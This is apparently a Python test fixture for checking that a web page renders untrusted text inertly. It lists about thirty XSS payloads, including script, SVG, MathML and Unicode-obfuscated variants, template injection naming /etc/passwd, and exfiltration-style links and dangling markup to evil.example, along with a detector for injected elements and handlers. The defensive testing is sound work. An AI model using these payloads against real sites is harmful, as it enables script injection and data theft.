"""Texts that would act if a page took them for more than text, and what a page may not have done then."""

from __future__ import annotations

from typing import Any

PAYLOADS = {
    "script": "<script>document.title='acted';alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "outside": "<img src=https://evil.example/pixel.png><iframe src=//evil.example></iframe>",
    "double quote": '"><img src=x onerror=alert(1)>',
    "single quote": "' onmouseover=alert(1) autofocus onfocus=alert(1) x='",
    "unquoted": "x onfocus=alert(1) autofocus tabindex=0",
    "svg": "<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
    "svg closed": "</text></svg><svg onload=alert(1)><text>",
    "closed": "</textarea></title></style></script></div></main><script>alert(1)</script>",
    "comment": "--><script>alert(1)</script><!--",
    "cdata": "]]><script>alert(1)</script><![CDATA[",
    "address": "javascript:alert(1)//",
    "data": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "link": "[click](javascript:alert(1)) [x](https://evil.example/?who) <https://evil.example>",
    "picture": "![x](https://evil.example/pixel.png) ![y][z]\n\n[z]: https://evil.example/z.png",
    "fence": '```js" onload="alert(1)\n</code></pre><script>alert(1)</script>\n```',
    "table": '| a |\n|:-:|\n| <b style="x" onmouseover=alert(1)>x</b> |',
    "style": "<style>@import 'https://evil.example/x.css'; *{background:url(//evil.example/y)}</style>",
    "base": '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">',
    "form": '<form action=https://evil.example><button autofocus>x</button></form><a href="https://evil.example">x</a>',
    "template": "{{7*7}} ${alert(1)} {% include '/etc/passwd' %} #{7*7} %s {0} $a$",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;img src=x onerror=alert(1)&#x3e;",
    "full width": "＜script＞alert(1)＜/script＞ \u02b9\u02ba onfocus\uff1dalert(1)",
    "turned round": "\u202e<script>alert(1)</script>\u202c \u2066<img src=x onerror=alert(1)>\u2069",
    "invisible": "<scr\u200bipt>alert(1)</scr\u200bipt> \u2028alert(1)\u2029 \ufeff<b onclick=alert(1)>x</b>",
    "nested": "<<img src=x onerror=alert(1)>script>alert(1)<</script>/script>",
    "no script": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "mathml": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "dangling": "<img src='https://evil.example/?",
}
# What none of our pages has: whatever of it is there came out of a text.
_FOREIGN = (
    "img, iframe, object, embed, base, math, animate, style:not(head style), link:not(head link), "
    "script:not(head script), meta:not(head meta), form[action*='evil'], [href*='evil'], [src*='evil'], [href^='javascript' i]"
)
_ACTED = """(foreign) => {
  const found = [...document.querySelectorAll(foreign)].map((e) => e.outerHTML.slice(0, 120));
  for (const e of document.querySelectorAll("*"))
    for (const a of e.attributes) if (/^on/i.test(a.name)) found.push(`${e.tagName} ${a.name}=${a.value}`.slice(0, 120));
  if (document.title === "acted") found.push("the title was changed");
  return found;
}"""


def acted(page: Any) -> list[str]:
    """Elements and attributes that no page of ours holds: what a text has become."""
    page.wait_for_timeout(50)  # an image that can't be loaded says so a moment later
    return list(page.evaluate(_ACTED, _FOREIGN))
